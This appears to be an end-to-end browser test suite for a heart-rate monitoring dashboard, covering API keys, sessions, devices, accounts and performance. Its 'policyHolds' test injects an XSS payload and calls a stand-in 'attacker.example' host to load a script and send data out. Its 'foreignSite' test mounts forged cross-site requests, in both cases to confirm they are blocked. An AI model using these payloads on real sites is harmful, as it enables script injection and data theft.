// What a person does, in the order in which one would. Each leaves in `world` what later ones need.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { ask, PASSWORD, until } from "./harness.mjs";
import { Programs } from "./programs.mjs";

const KEY = /raeh_[0-9A-Za-z]{36}/;

const stored = (page) =>
  page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state]));

async function showsNothingOf(page, secret) {
  const where = { page: await page.content(), storage: await stored(page), address: page.url() };
  const values = await page.evaluate(() => [...document.querySelectorAll("input, textarea")].map((one) => one.value).join());
  for (const [name, text] of Object.entries({ ...where, values }))
    assert.ok(!text.includes(secret), `the key is still in the ${name}`);
}

// Signs up, registers a watch, makes a key, and sees the heart rate of a watch in the browser.
export async function newcomer(browser, world) {
  const page = (world.page = await browser.window());
  const began = Date.now();
  await page.goto("/");
  await page.getByRole("link", { name: "Create an account" }).click();
  world.email = await browser.signUp(page);
  const step = (n) => page.locator(`[data-step="${n}"]`);
  for (const n of [1, 2, 3]) assert.equal(await step(n).getAttribute("data-done"), "false");

  await page.getByRole("button", { name: "Register Device Type" }).click();
  await page.getByRole("button", { name: "Register", exact: true }).click();
  await page.locator('[data-step="1"][data-done="true"]').waitFor();
  world.model = (await ask(page, "GET", "/v1/device-models")).json[0];

  await page.getByRole("button", { name: "Create key" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Create key" }).click();
  const shown = page.getByLabel("API key", { exact: true });
  world.key = (await shown.textContent()).trim();
  assert.match(world.key, KEY);
  assert.equal(await page.getByLabel("Line for .env", { exact: true }).textContent(), `RAEH_KEY=${world.key}`);
  await page.keyboard.press("Escape");
  await page.keyboard.press("Escape");
  assert.ok(await shown.isVisible(), "Escape has closed the dialog of a key that nobody saved");
  await page.getByRole("button", { name: "I have saved it" }).click();
  await page.locator('[data-step="2"][data-done="true"]').waitFor();
  world.minted = browser.replies.length; // what comes later never holds the key

  await page.getByRole("button", { name: "Simulate a watch in this browser" }).click();
  await page.locator('[data-step="3"][data-done="true"]').waitFor();
  const heart = page.locator(".heartbeat-value");
  await heart.waitFor();
  await until("the heart rate is that of the pulse", async () => {
    const bpm = Number(await heart.textContent());
    return bpm > 60 && bpm < 85;
  });
  return { seconds: Math.round((Date.now() - began) / 100) / 10 };
}

// The key that was shown is nowhere any more.
export async function keyShownOnce(browser, world) {
  const { page, key } = world;
  await showsNothingOf(page, key);
  await page.getByRole("link", { name: "API Keys" }).click();
  await page.getByRole("link", { name: "My watch" }).click();
  await page.getByRole("heading", { name: "My watch" }).waitFor();
  await showsNothingOf(page, key);
  await page.reload();
  await page.getByRole("heading", { name: "My watch" }).waitFor();
  await showsNothingOf(page, key);
}

// The quickstart's programs, as they are shown, stream with that key.
export async function snippets(browser, world) {
  const { page } = world;
  world.programs = new Programs();
  await page.goto("/quickstart");
  for (const language of ["Python", "JavaScript", "C"]) {
    await page.getByRole("tab", { name: language, exact: true }).click();
    const text = await page.locator(".snippet pre").textContent();
    assert.ok(text.includes(world.model.id) && text.includes(browser.base), "filled with the own ids and address");
    world.programs.start(language, text, world.key);
  }
  await world.programs.streaming();
}

// A tile a device, with its heart rate; a click shows the waveform.
export async function live(browser, world) {
  const { page } = world;
  await page.getByRole("link", { name: "Live", exact: true }).click();
  for (const name of ["watch-python", "watch-javascript", "watch-c"]) {
    const tile = page.locator(".tile", { hasText: name });
    await tile.waitFor();
    await until(`${name} has a heart rate`, async () => {
      const bpm = Number(await tile.locator('[data-type="hr"]').textContent());
      return bpm > 60 && bpm < 85;
    });
  }
  await page.locator(".tile", { hasText: "watch-python" }).getByRole("button").click();
  const dialog = page.getByRole("dialog", { name: "watch-python" });
  await dialog.locator('.monitor[data-live="true"] canvas').first().waitFor();
  await dialog.getByText(/^\d+\.\d s behind$/).waitFor();
  await dialog.getByRole("link", { name: "Open the session" }).click();
  await page.getByRole("heading", { name: "watch-python" }).waitFor();
  await page.locator(".chart canvas").first().waitFor();
  world.session = page.url().split("/").pop();
}

// Keys are made and deleted without a mouse: the focus goes into a dialog, stays there, and comes back.
export async function keyboard(browser, world) {
  const { page } = world;
  await page.goto("/keys");
  for (const name of ["Create key", "Delete My watch"]) {
    const opener = page.getByRole("button", { name, exact: true });
    await opener.focus();
    await page.keyboard.press("Enter");
    await page.getByRole("dialog").waitFor();
    for (let i = 0; i < 12; i++) {
      await page.keyboard.press("Tab");
      assert.ok(await page.evaluate(() => document.activeElement === document.body || document.querySelector("dialog[open]").contains(document.activeElement)), `${name}: the focus has left the dialog`);
    }
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    assert.ok(await opener.evaluate((node) => node === document.activeElement), `${name}: the focus has not come back`);
  }
}

// A server that does not answer is named on the page, which goes on by itself when it does.
export async function serverAway(browser, world) {
  const { page } = world;
  const away = page.locator(".away");
  const fails = (route) => route.abort();
  await page.goto("/sessions");
  await page.getByRole("link", { name: "watch-python" }).waitFor();
  await page.route(/\/v1\/|\/healthz/, fails);
  await away.waitFor();
  assert.ok(await page.getByRole("link", { name: "watch-python" }).isVisible(), "what was there stays");
  assert.equal(await page.getByRole("alert").count(), 0);
  await page.unroute(/\/v1\/|\/healthz/, fails);
  await away.waitFor({ state: "detached" });
}

// Reads of health data, which this page makes all the time, are hidden until they are asked for.
export async function auditWithoutReads(browser, world) {
  const { page } = world;
  const asked = page.waitForRequest(/\/v1\/audit\?.*without=health_read/);
  await page.goto("/audit");
  await asked;
  await page.getByRole("row", { name: /Key created/ }).first().waitFor();
  assert.equal(await page.getByRole("row", { name: /Health data read/ }).count(), 0);
  const all = page.waitForRequest((one) => /\/v1\/audit\?/.test(one.url()) && !one.url().includes("without"));
  await page.getByLabel("Hide reads").uncheck();
  await all;
  const mine = page.waitForRequest((one) => /\/v1\/audit\?.*key_id=/.test(one.url()));
  await page.getByLabel("Key or person").selectOption({ label: "My watch" });
  await mine;
  await page.getByRole("row", { name: /Key created/ }).first().waitFor();
}

// A key that is pasted into the search is known by its hint; the key itself goes nowhere.
export async function pastedKey(browser, world) {
  const { page } = world;
  const made = await ask(page, "POST", "/v1/keys", { label: "pasted" });
  assert.equal(made.status, 201);
  const secret = made.json.key;
  await page.goto("/keys");
  await page.getByRole("link", { name: "pasted" }).waitFor();
  const asked = browser.asked.length;
  const search = page.getByRole("searchbox");
  await search.fill(secret.slice(0, -1) + (secret.endsWith("x") ? "y" : "x"));
  await page.getByText("Not a key: a character is wrong or missing").waitFor();
  await search.fill(secret);
  await page.getByText("only its hint is looked for").waitFor();
  assert.equal(await page.locator("tbody tr").count(), 1);
  await showsNothingOf(page, secret);
  for (const request of browser.asked.slice(asked)) assert.ok(!request.includes(secret), "the key left the page");
}

// Deleting the key says what it would close, wants the label, closes every socket, shows the receipt.
export async function deleteCloses(browser, world) {
  const { page } = world;
  await page.goto("/keys");
  await page.getByRole("button", { name: "Delete My watch" }).click();
  const dialog = page.getByRole("dialog");
  const confirm = dialog.getByRole("button", { name: "Delete key" });
  assert.ok(await confirm.isDisabled(), "without the label");
  await dialog.getByLabel("Type “My watch” to confirm").fill("My watch");
  await confirm.click();
  const line = await page.locator(".receipt-line").textContent();
  assert.match(line, /^3 sockets closed on 2 edges in \d+ ms$/);
  const said = Object.fromEntries(await world.programs.allEnd());
  assert.match(said.JavaScript, /closed with 4001/);
  await page.getByRole("button", { name: "Done" }).click();
  await until("the key is gone from the list", async () => !(await page.getByRole("link", { name: "My watch", exact: true }).count()));
  return { receipt: line };
}

// A successor is shown once too; the old key says who still uses it.
export async function rotatedAndDisabled(browser, world) {
  const { page } = world;
  await page.goto("/keys");
  await page.getByRole("link", { name: "pasted" }).click();
  await page.getByRole("button", { name: "Rotate" }).click();
  await page.getByRole("button", { name: "Rotate key" }).click();
  const secret = (await page.getByLabel("API key", { exact: true }).textContent()).trim();
  assert.match(secret, KEY);
  await page.getByRole("button", { name: "I have saved it" }).click();
  await page.getByRole("heading", { name: "Rotation under way" }).waitFor();
  await showsNothingOf(page, secret);
  await page.getByRole("button", { name: "Open the new key" }).click();
  await until("the new key's page", async () => !(await page.getByText("Rotation under way").count()));

  await page.getByRole("button", { name: "Edit" }).click();
  await page.getByLabel("Disabled").check();
  await page.getByText("are closed at once").waitFor();
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("heading", { name: "pasted disabled" }).waitFor();
  const bearer = { headers: { Authorization: `Bearer ${secret}` } };
  assert.equal((await fetch(`${browser.base}/v1/sessions`, bearer)).status, 401);
}

const verdicts = [
  ["good", {}],
  ["drifts 120 ppm", { drift_ppm: -120.4 }],
  ["steps back", { drift_ppm: 500, steps_back: 2 }],
  ["off by 2 h", { offset_ms: 7_200_000 }],
  ["–", { drift_ppm: null }],
  ["–", null], // there is no such session
  ["good", { drift_ppm: 99 }],
  ["good", { skew_ms: null }],
];

// Each physical device with a word on its clock, from answers that are made up here: they are asked
// for four at a time, no more once the page is left, and once.
async function clocksOfDevices(page, world) {
  const real = (await ask(page, "GET", `/v1/sessions/${world.session}/clock`)).json.slots[0];
  for (const name of ["offset_ms", "drift_ppm", "steps_back"]) assert.ok(name in real, `no ${name}`);
  const id = (i) => `01900000-0000-7000-8000-${String(i).padStart(12, "0")}`;
  const at = new Date().toISOString();
  const units = verdicts.map((_, i) => ({ device_id: `clock-${i}`, device_model_id: world.model.id, online: false, last_seen_at: at, last_session_id: id(i), created_at: at }));
  const clocks = /\/v1\/sessions\/([^/]+)\/clock$/;
  const held = [];
  let left = 0;
  const fails = (request) => (left += clocks.test(request.url()));
  const answer = (route) => {
    const change = verdicts[Number(route.request().url().match(clocks)[1].slice(-12))][1];
    const slot = { ...real, offset_ms: 20, drift_ppm: 3, steps_back: 0, ...change };
    return route.fulfill(change ? { json: { slots: [slot] } } : { status: 404, json: { title: "Not found" } });
  };
  let open = false;
  const devices = /\/v1\/devices\?/;
  await page.route(devices, (route) => route.fulfill({ json: units }));
  await page.route(clocks, (route) => (open ? answer(route) : held.push(route)));
  page.on("requestfailed", fails);

  const show = () => page.getByRole("tab", { name: "Physical devices" }).click();
  await page.goto("/devices");
  await show();
  await until("four are asked", () => held.length >= 4);
  await ask(page, "GET", "/v1/me");
  assert.equal(held.length, 4);
  await page.getByRole("tab", { name: "Device types" }).click();
  await until("the four are given up", () => left === 4);
  assert.equal(held.length, 4, "the others were asked for a page that was left");
  open = true;
  const asked = [];
  const notes = (request) => clocks.test(request.url()) && asked.push(request.url());
  page.on("request", notes);
  for (let visit = 0; visit < 2; visit++) {
    await show();
    for (const [i, [text]] of verdicts.entries())
      await page.locator("tr", { hasText: `clock-${i}` }).locator(".clock").getByText(text, { exact: true }).waitFor();
    await page.getByRole("tab", { name: "Device types" }).click();
  }
  assert.equal(asked.length, verdicts.length, "a closed session's clock was asked for again");
  page.off("requestfailed", fails);
  page.off("request", notes);
  await page.unroute(devices);
  await page.unroute(clocks);
}

// What is kept of a device goes when its name is typed, and says how much it was.
export async function deviceDeleted(browser, world) {
  const { page } = world;
  await clocksOfDevices(page, world);
  await page.goto("/devices");
  await page.getByRole("tab", { name: "Physical devices" }).click();
  await page.getByRole("link", { name: "watch-c" }).click();
  await page.getByRole("button", { name: "Delete its data" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Type “watch-c” to confirm").fill("watch-c");
  await dialog.getByRole("button", { name: "Delete its data" }).click();
  await page.getByText(/Deleted: 1 session, \d+ frames, \d+ insights?/).waitFor();
  await until("the device is gone", async () => !(await page.getByRole("link", { name: "watch-c" }).count()));
  assert.equal((await ask(page, "GET", "/v1/sessions?device_id=watch-c")).json.length, 0);
}

// From the minting on, no answer held the key.
export async function noReplyHoldsTheKey(browser, world) {
  const later = browser.replies.slice(world.minted);
  assert.ok(later.length > 20);
  for (const reply of later) assert.ok(!reply.text.includes(world.key), reply.url);
}

// Another site's page in the same browser can neither change nor hear anything.
export async function foreignSite(browser, world) {
  const before = (await ask(world.page, "GET", "/v1/keys")).json.length;
  const bare = await ask(world.page, "POST", "/v1/keys", { label: "forged" }, false);
  assert.equal(bare.status, 403);
  const site = createServer((_, answer) => answer.setHeader("Content-Type", "text/html").end("<h1>evil</h1>"));
  await new Promise((done) => site.listen(0, "127.0.0.1", done));
  const page = await world.page.context().newPage();
  try {
    await page.goto(`http://127.0.0.1:${site.address().port}/`);
    const got = await page.evaluate(async (base) => {
      const tried = {};
      const body = JSON.stringify({ label: "forged" });
      const post = { method: "POST", credentials: "include", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body };
      await fetch(`${base}/v1/keys`, post).catch(() => undefined);
      tried.read = await fetch(`${base}/v1/me`, { credentials: "include" }).then((answer) => answer.text(), () => "refused");
      tried.socket = await new Promise((done) => {
        const socket = new WebSocket(`${base.replace("http", "ws")}/stream/subscribe`);
        socket.onmessage = (event) => done(`heard ${event.data}`);
        socket.onclose = (event) => done(`closed ${event.code}`);
      });
      return tried;
    }, browser.base);
    assert.equal(got.read, "refused");
    assert.match(got.socket, /^closed/);
  } finally {
    await page.close();
    site.close();
  }
  assert.equal((await ask(world.page, "GET", "/v1/keys")).json.length, before);
}

// What an attacker could write into the page does not run.
export async function policyHolds(browser, world) {
  const { page } = world;
  const answer = await page.goto("/keys");
  const policy = answer.headers()["content-security-policy"] || "";
  assert.ok(policy.includes("default-src") && !policy.includes("unsafe-inline") && !policy.includes("unsafe-eval"), policy);
  assert.match(policy, /frame-ancestors 'none'/);
  await page.getByRole("heading", { name: "API Keys" }).waitFor();
  const broken = await page.evaluate(async () => {
    const broken = [];
    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.attacked = 1";
    document.body.append(script);
    const box = document.createElement("div");
    box.innerHTML = '<img src="x:" onerror="window.attacked = 2"><b style="color: red">x</b>';
    document.body.append(box);
    const far = document.createElement("script");
    far.src = "https://attacker.example/x.js";
    document.body.append(far);
    await fetch("https://attacker.example/?stolen").catch(() => undefined);
    const end = Date.now() + 5000;
    while (broken.length < 5 && Date.now() < end) await new Promise((done) => setTimeout(done, 20));
    box.remove();
    return { broken, attacked: window.attacked ?? null };
  });
  assert.equal(broken.attacked, null);
  for (const directive of ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src"])
    assert.ok(broken.broken.includes(directive), `${directive} not in ${broken.broken}`);
}

// To somebody else, what is mine was never made.
export async function otherAccount(browser, world) {
  const page = await browser.window();
  await browser.signUp(page);
  const mine = (await ask(world.page, "GET", "/v1/keys")).json[0];
  for (const [path, what] of [
    [`/sessions/${world.session}`, "session"],
    [`/keys/${mine.id}`, "key"],
    [`/devices/types/${world.model.id}`, "device type"],
    ["/devices/watch-python", "device"],
  ]) {
    await page.goto(path);
    await page.getByRole("heading", { name: `There is no such ${what}` }).waitFor();
  }
  for (const path of ["/sessions", "/devices", "/insights", "/live"]) {
    await page.goto(path);
    await page.locator(".empty").waitFor();
    assert.ok(!(await page.content()).includes("watch-python"));
  }
  await page.context().close();
}

// Out and in again: back where one wanted to go; a wrong password says the same for everybody.
export async function logsOutAndIn(browser, world) {
  const page = await browser.window();
  const said = async () => {
    const alert = page.getByRole("alert");
    await alert.waitFor();
    return alert.textContent();
  };
  await page.goto(`/sessions/${world.session}`);
  await page.getByRole("heading", { name: "Log in" }).waitFor();
  await page.getByLabel("E-mail").fill(world.email);
  await page.getByLabel("Password").fill("not the password");
  await page.getByRole("button", { name: "Log in" }).click();
  const known = await said();
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Log in" }).click();
  await page.getByRole("heading", { name: "watch-python" }).waitFor();
  await page.getByRole("button", { name: "Log out" }).click();
  await page.getByRole("heading", { name: "Log in" }).waitFor();
  await page.getByLabel("E-mail").fill("nobody@example.org");
  await page.getByLabel("Password").fill("not the password");
  await page.getByRole("button", { name: "Log in" }).click();
  assert.equal(await said(), known);
  await page.goto("/keys");
  await page.getByRole("heading", { name: "Log in" }).waitFor();
  await page.context().close();
}

// An owner's link lets a second person in, once.
export async function invitation(browser, world) {
  const { page } = world;
  await page.goto("/settings");
  await page.getByRole("button", { name: "Make a link" }).click();
  const link = (await page.getByLabel("invitation", { exact: true }).textContent()).trim();
  const guest = await browser.window();
  const join = async () => {
    await guest.goto(link);
    await guest.getByLabel("E-mail").fill(`guest-${Date.now()}@example.org`);
    await guest.getByLabel("Password").fill(PASSWORD);
    await guest.getByRole("button", { name: "Join" }).click();
  };
  await join();
  await guest.locator(".shell").waitFor();
  await guest.goto("/sessions");
  await guest.getByRole("link", { name: "watch-python" }).waitFor();
  await guest.getByRole("button", { name: "Log out" }).click();
  await guest.getByRole("heading", { name: "Log in" }).waitFor();
  await join();
  await guest.getByRole("alert").waitFor();
  await guest.context().close();
}

// A new password needs the old one, ends every other login, and keeps this one.
export async function passwordChanged(browser) {
  const page = await browser.window();
  const email = await browser.signUp(page);
  const other = await browser.window();
  await browser.logIn(other, email);
  await page.goto("/settings");
  const next = "another one entirely";
  const change = async (current) => {
    await page.getByLabel("Current password").fill(current);
    await page.getByLabel("New password").fill(next);
    await page.getByRole("button", { name: "Change password" }).click();
  };
  await change("not the password");
  await page.getByRole("alert").getByText("the password is wrong").waitFor();
  assert.equal((await ask(other, "GET", "/v1/me")).status, 200);
  const { csrf } = (await ask(page, "GET", "/v1/me")).json;

  await change(PASSWORD);
  await page.getByText("The password is changed; every other login is ended").waitFor();
  assert.equal(await page.getByRole("alert").count(), 0);
  assert.equal(await page.getByLabel("New password").inputValue(), "");
  assert.notEqual((await ask(page, "GET", "/v1/me")).json.csrf, csrf);
  await page.getByRole("button", { name: "Make a link" }).click();
  await page.getByLabel("invitation", { exact: true }).waitFor();

  await other.goto("/keys");
  await other.getByRole("heading", { name: "Log in" }).waitFor();
  await browser.logIn(other, email, next);
  await other.context().close();
  await page.context().close();
}

// An owner who types the e-mail and the password ends the account, and cannot log in again.
export async function accountDeleted(browser) {
  const page = await browser.window();
  const email = await browser.signUp(page);
  await page.goto("/settings");
  await page.getByRole("button", { name: "Delete the account…" }).click();
  const dialog = page.getByRole("dialog");
  const confirm = dialog.getByRole("button", { name: "Delete everything" });
  await dialog.getByLabel(`Type “${email}” to confirm`).fill(email);
  assert.ok(await confirm.isDisabled(), "without the password");
  await dialog.getByLabel("Your password").fill(PASSWORD);
  await confirm.click();
  await page.getByRole("heading", { name: "Log in" }).waitFor();
  await page.getByLabel("E-mail").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Log in" }).click();
  await page.getByRole("alert").waitFor();
  await page.context().close();
}

const TILES = 500;
const MEASURED_MS = 4000;

// Hundreds of devices at once: what the page draws, with a feed that is made up here.
export async function manyTiles(browser, world) {
  const page = await world.page.context().newPage();
  const sessions = Array.from({ length: TILES }, (_, i) => ({
    id: `01900000-0000-7000-8000-${String(i).padStart(12, "0")}`,
    device_id: `fleet-${i}`,
    device_model_id: world.model.id,
    status: "open",
    started_at: new Date().toISOString(),
    ended_at: null,
  }));
  await page.route(/\/v1\/sessions\?/, (route) => route.fulfill({ json: sessions }));
  let timer;
  await page.routeWebSocket(/\/stream\/subscribe/, (socket) => {
    socket.send(JSON.stringify({ status: "subscribed" }));
    let n = 0;
    const kinds = [["hr", "bpm", 60], ["rr", "brpm", 12], ["hr", "bpm", 60], ["spo2", "%", 95]];
    timer = setInterval(() => {
      for (let i = 0; i < 25; i++, n++) {
        const session = sessions[n % TILES];
        const [type, unit, low] = kinds[Math.floor(n / TILES) % 4];
        const value = low + ((n * 7) % 5);
        socket.send(JSON.stringify({ type, unit, value, ts: Date.now(), t: Date.now(), id: `i${n}`, session_id: session.id, device_id: session.device_id, confidence: 0.9, sqi_class: "excellent" }));
      }
    }, 50);
  });
  try {
    await page.goto("/live");
    await page.locator(`.wall[data-tiles="${TILES}"]`).waitFor();
    await until("the last tile has a value", async () => /^6\d$/.test(await page.locator(".tile").last().locator('[data-type="hr"]').textContent().catch(() => "")) || page.evaluate(() => scrollTo(0, document.body.scrollHeight)));
    return await page.evaluate(async (ms) => {
      const gaps = [];
      let last = performance.now();
      const end = last + ms;
      await new Promise((done) => {
        const step = (now) => {
          gaps.push(now - last);
          last = now;
          scrollBy(0, -12);
          if (now < end) requestAnimationFrame(step);
          else done();
        };
        requestAnimationFrame(step);
      });
      gaps.sort((a, b) => a - b);
      const round = (x) => Math.round(x * 10) / 10;
      return { tiles: document.querySelectorAll(".tile").length, frames_per_s: round((1000 * gaps.length) / ms), p95_frame_ms: round(gaps[Math.floor(gaps.length * 0.95)]) };
    }, MEASURED_MS);
  } finally {
    clearInterval(timer);
    await page.close();
  }
}

// The browser's own watch was streaming all the time; it stops when told, and its key is deleted.
export async function watchStops(browser, world) {
  const { page } = world;
  await page.goto("/quickstart");
  await page.getByRole("button", { name: "Simulate a watch in this browser" }).click();
  await page.getByRole("link", { name: "Sessions", exact: true }).click();
  await page.getByRole("heading", { name: "Sessions" }).waitFor();
  const note = page.locator(".side .watch-note");
  await note.waitFor();
  const open = async () => (await ask(page, "GET", "/v1/sessions?status=open&device_id=watch-in-browser")).json.length;
  await until("its session is open", async () => (await open()) === 1);
  const keys = async () => (await ask(page, "GET", "/v1/keys")).json.filter((key) => key.external_id === "watch-in-the-browser").length;
  const before = await keys();
  await note.getByRole("button", { name: "Stop" }).click();
  await until("its session is closed", async () => (await open()) === 0);
  await until("its key is deleted", async () => (await keys()) === before - 1);
}

// The whole application is small, and asks no other host for anything.
export async function lightAndAlone(browser, world) {
  const { page } = world;
  await page.goto("/keys");
  await page.getByRole("heading", { name: "API Keys" }).waitFor();
  const bytes = await page.evaluate(() => performance.getEntriesByType("resource").filter((one) => one.name.includes("/assets/")).reduce((sum, one) => sum + one.encodedBodySize, 0));
  assert.ok(bytes > 10_000 && bytes < 150_000, `${bytes} bytes of assets`);
  const own = [browser.base, browser.base.replace("http", "ws")];
  for (const request of browser.asked.filter((one) => /^(http|ws)/.test(one))) assert.ok(own.some((one) => request.startsWith(one)) || /attacker\.example/.test(request), request);
  return { bytes };
}

// No page has complained in all this.
export async function nothingComplained(browser) {
  assert.deepEqual(browser.complaints.filter((one) => !/Content Security Policy|Content-Security-Policy/.test(one)), []);
}

